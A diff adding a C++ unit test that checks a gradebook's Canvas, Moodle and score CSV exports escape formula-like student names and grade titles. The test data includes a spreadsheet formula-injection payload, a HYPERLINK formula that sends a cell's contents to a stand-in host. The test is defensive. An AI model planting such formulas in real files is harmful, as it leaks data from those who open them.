@@ -366,3 +366,71 @@ TEST(LmsExport, PointsOfAnEntryAreItsPercentageOfThePoints) {
     g.CurveAmount = 1e308;
     EXPECT_EQ(EntryPoints(g, TEntry{EntryKind::Number, 1e308, true}), std::nullopt);
 }
+
+// Hostile names from an LMS roster or typed by hand: what a spreadsheet opening the export
+// would run is written as text; what the importer matches students on is written unchanged.
+TEST(LmsExport, NothingAPersonReadsRunsAsAFormulaAndMatchingFieldsStayAsStored) {
+    TGradebook gb;
+    gb.SetEditMode(false);
+    for (auto [letter, from] : {std::pair{"=A", 90}, {"F", 0}})
+        gb.NumberToLetter.Add(letter, from);
+    AddStudent(gb, "=HYPERLINK(\"http://x.example/?\"&A1,\"Ann\")", "=1+1");
+    AddStudent(gb, " +Ben", "-7");
+    AddStudent(gb, "\t@Cal", "C3");
+    gb.StudentAt(4)->Notes = "mail: -2+3@school.example";
+    AddStudent(gb, "Dee Fox", "D4");
+    AddGrade(gb, "|Quiz", 10);
+    AddGrade(gb, "%Essay", 10);
+    gb.SetCell(2, 2, "-2");
+    gb.SetCell(2, 3, "9");
+    gb.SetCell(3, 5, "10");
+    RecomputeAll(gb);
+
+    TLmsExport canvas = ExportForLms(gb, TLmsFormat::Canvas);
+    TCsvTable table = Read(canvas.Csv);
+    ASSERT_EQ(table.size(), 6u) << canvas.Csv;
+    EXPECT_EQ(table[0][5], "'|Quiz");
+    EXPECT_EQ(table[0][6], "'%Essay");
+    // The name as Canvas shows it, with nothing in front a spreadsheet could read.
+    EXPECT_EQ(table[3][0], "'+Ben") << "the blank taken off must not bring the formula back";
+    EXPECT_EQ(table[4][0], "'@Cal");
+    EXPECT_EQ(table[5][0], "Fox, Dee");
+    EXPECT_EQ(table[2][0].substr(0, 11), "'=HYPERLINK");
+    // SIS User IDs as stored, so that Canvas still finds the students; a negative score and
+    // a negative ID are numbers, not formulas.
+    EXPECT_EQ(table[2][2], "=1+1");
+    EXPECT_EQ(table[3][2], "-7");
+    EXPECT_EQ(table[2][5], "-2");
+    const auto places = Places(canvas);
+    EXPECT_NE(std::find(places.begin(), places.end(), std::make_tuple(TKind::FormulaId, 0, 2)),
+              places.end());
+    EXPECT_EQ(std::count_if(canvas.Warnings.begin(), canvas.Warnings.end(),
+                            [](const TLmsWarning& w) { return w.Kind == TKind::FormulaId; }),
+              1)
+        << "-7 is a number";
+    for (const TLmsWarning& w : canvas.Warnings) {
+        if (w.Kind != TKind::FormulaId) continue;
+        EXPECT_NE(LmsWarningText(gb, canvas, w).find("has the ID \"=1+1\", which a spreadsheet"),
+                  std::string::npos);
+    }
+
+    TLmsExport moodle = ExportForLms(gb, TLmsFormat::Moodle);
+    table = Read(moodle.Csv);
+    ASSERT_EQ(table.size(), 5u) << moodle.Csv;
+    EXPECT_EQ(table[1][0], "=1+1");
+    EXPECT_EQ(table[1][1].substr(0, 11), "'=HYPERLINK");
+    EXPECT_EQ(table[2][1], " +Ben") << "a leading blank is no formula";
+    EXPECT_EQ(table[3][1], "'\t@Cal");
+    EXPECT_EQ(table[3][2], "-2+3@school.example");
+    const auto moodlePlaces = Places(moodle);
+    EXPECT_NE(std::find(moodlePlaces.begin(), moodlePlaces.end(),
+                        std::make_tuple(TKind::FormulaEmail, 0, 4)),
+              moodlePlaces.end());
+
+    TLmsExport scores = ExportForLms(gb, TLmsFormat::Scores);
+    table = Read(scores.Csv);
+    ASSERT_EQ(table.size(), 5u) << scores.Csv;
+    EXPECT_EQ(table[0][2], "'|Quiz");
+    EXPECT_EQ(table[4][5], "'=A") << "a letter of the teacher's table";
+    EXPECT_EQ(table[1][2], "-2");
+}
